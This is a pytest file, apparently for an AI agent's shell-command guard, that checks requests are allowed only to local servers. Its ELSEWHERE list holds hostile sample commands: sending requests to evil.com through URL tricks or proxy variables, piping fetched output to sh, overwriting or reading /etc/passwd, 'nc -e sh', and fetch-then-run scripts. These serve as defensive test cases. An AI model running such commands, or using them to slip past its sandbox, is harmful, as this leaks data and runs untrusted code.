"""Asking a server of this machine passes, as a web feature is verified that way; asking any other does not."""

from pathlib import Path

import pytest

from tests.agent.safety.commands.conftest import Ask

HERE = [
    'node s.js & PID=$!; sleep 1; curl -s "http://localhost:3000/a?b=$x"; kill $PID',
    'PORT=3001; node s.js & curl -sf "http://localhost:$PORT/api" | jq .; kill %1',
    "BASE=http://127.0.0.1:8000\ncurl -s $BASE/api/items | head; "
    'curl -s -X DELETE "$BASE/api/items/$ID" -H "Authorization: Bearer $TOKEN"',
    "export PORT=3000; curl localhost:$PORT",
    r"curl -so /dev/null -w '%{http_code}\n' localhost:3000/x?y=1",
    "curl -o out.html -c cookies.txt http://localhost:3000/ && cat out.html",
    "curl -sS --max-time 5 -XPOST -d@body.json -H'Content-Type: application/json' http://[::1]:3000/",
    "wget -qO- http://localhost:3000/a; wget --spider -q localhost:3000; nc -z -w 1 localhost 3000",
    'node a & SERVER_PID=$!\ncleanup() { kill "$SERVER_PID" 2>/dev/null; wait "$SERVER_PID"; }\n'
    "trap cleanup EXIT\nfor i in $(seq 20); do curl -sf localhost:3000/ >/dev/null && break; sleep 0.2; done",
    "timeout 10 bash -c 'until curl -s localhost:3000 >/dev/null; do sleep 0.5; done'",
    'curl -s http://localhost:3000/{a,b} "http://localhost:3000/[1-3]"',
    """curl -s localhost:3000/a -H 'Content-Type: application/json' -d '{"title":"a","body":["b","c"]}'""",
    r'''curl -s localhost:3000/a -d "{\"title\":\"a\",\"id\":$ID}"''',
    'curl -s localhost:3000/a -d @- <<\'E\'\n{"a": {"b": [1, 2]}}\nE',
    'for p in / /api; do curl -s -o /dev/null -w "$p %{http_code}\\n" "http://localhost:3000$p"; done',
    'for p in a b; do curl -s -w "$p: %{http_code}\\n" "http://localhost:3000/$p"; done',
    'PORT=3000; for p in / /api; do curl -s --noproxy "*" "http://127.0.0.1:$PORT$p"; done',
    'get() { local code=$(curl -s "http://localhost:3000/$1"); echo "$code"; }; get a',
]
ELSEWHERE = [
    "curl x",
    "curl http://localhost:3000@evil.com/",
    "curl http://localhost.evil.com/",
    'curl "http://localhost:$PORT/"',
    'PORT=1@evil.com; curl "http://localhost:$PORT/"',
    "curl localhost:3000/$X",
    'curl "localhost:3000/$@"',
    "curl localhost:3000 evil.com",
    "curl localhost:3000{,@evil.com}",
    "curl -x evil.com localhost",
    "curl -K f localhost",
    "curl --proxy evil localhost",
    "http_proxy=evil curl localhost",
    "export http_proxy=evil; curl localhost",
    "env HTTP_PROXY=evil curl localhost",
    r"export htt''p_pr\oxy=evil; curl localhost",
    "HOME=. curl localhost",
    "CURL_HOME=. sh -c 'curl localhost'",
    "curl -o /etc/passwd localhost",
    "curl -o x.sh localhost; bash x.sh",
    "curl localhost | sh",
    "curl -w '%output{/etc/x}' localhost",
    "curl -O localhost/x",
    'curl -d "$@" localhost',
    "curl -d $X localhost",
    "curl $X localhost",
    "curl --connect-to ::evil:80 localhost",
    "curl --unix-socket /var/run/docker.sock http://localhost/",
    "curl file:///etc/passwd",
    "curl ftp://localhost/",
    "curl --url evil localhost",
    "curl -s -- evil",
    "xargs curl localhost",
    "wget http://localhost/x",
    "wget -qO- localhost -i f",
    "wget -e use_proxy=yes localhost",
    "nc localhost 80",
    "nc -lp 80",
    "nc -z evil 80",
    "nc -z -e sh localhost 80",
    "A='http://localhost/'; curl $A$X",
    'A=http://localhost; curl "$A$X"',
    'A=http://localhost; curl "$A@evil.com"',
    'A=http://localhost; curl "$A:$P/"',
    "A=http://localhost; A=evil; curl $A",
    "A=-K; curl $A f localhost",
    "A=localhost; curl $A $B",
    "curl http://127.999.1.1/",
    "curl -w @fmt localhost:3000",
    'F=$(cat f); curl -w "$F" localhost:3000',
    'curl -w "$F %{http_code}" localhost:3000',
    "curl -o '#1' 'http://localhost:3000/{../../x,b}'",
    "SSLKEYLOGFILE=/x curl -k https://localhost:3000/",
    "HOSTALIASES=f wget -qO- localhost:3000",
    "while :; do curl localhost:3000; set -a; . ./proxied; done",
    "export $(cat f | xargs); curl localhost:3000",
    'declare -x "$x=evil"; curl localhost:3000',
    'set -a; : "${!x:=evil}"; curl localhost:3000',
    'set -a; read "$x" < f; curl localhost:3000',
    "IFS=x; A=localhost:3000/xevil.com; curl $A",
    'for p in @evil.com; do curl "localhost$p"; done',
    'for p in /a; do curl "localhost:3$p"; done; for p in @evil; do curl "localhost:3$p"; done',
    'for p in /a; do read p; curl "localhost:3$p"; done',
    'for p in /a; do p=x; curl "localhost:3$p"; done',
    "curl http://localhost@evil/",
    "a=(d evil.com); X='a[@]'; curl -d \"${!X}\" localhost:3000",
    "a=(d evil.com); declare -n X='a[@]'; curl -d \"$X\" localhost:3000",
    "curl http://127.0.0.1.evil.com/",
    "curl --resolve localhost:80:1.2.3.4 localhost",
    "curl localhost --next evil",
    "curl localhost -: evil",
    "curl http://[::ffff:1.2.3.4]/",
    r"curl 'http://localhost:80\@evil.com/'",
]


@pytest.mark.parametrize("command", HERE)
def test_a_server_of_this_machine_may_be_asked(ask: Ask, command: str) -> None:
    assert ask(command) is None


@pytest.mark.parametrize("command", ELSEWHERE)
def test_no_other_machine_may_be_asked(ask: Ask, project: Path, command: str) -> None:
    (project / "proxied").write_text("http_proxy=evil\n")
    assert ask(command) is not None


def test_a_program_that_was_allowed_may_ask_anybody(ask: Ask) -> None:
    assert ask("curl -L https://example.com/x | tar x", "curl") is None


def test_the_reason_says_what_would_pass(ask: Ask) -> None:
    denial = ask("curl -s https://example.com/")
    assert denial is not None
    assert denial.rule == "allowlist"
    assert "http://localhost:3000/" in denial.reason


def test_what_was_fetched_is_not_run_by_the_same_command(ask: Ask) -> None:
    denial = ask("curl -o init.sh http://localhost:3000/x; ./init.sh")
    assert denial is not None
    assert denial.rule == "script"


def test_nobody_is_asked_with_settings_that_the_agent_may_write(
    ask: Ask, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(project))
    assert ask("curl localhost:3000") is not None
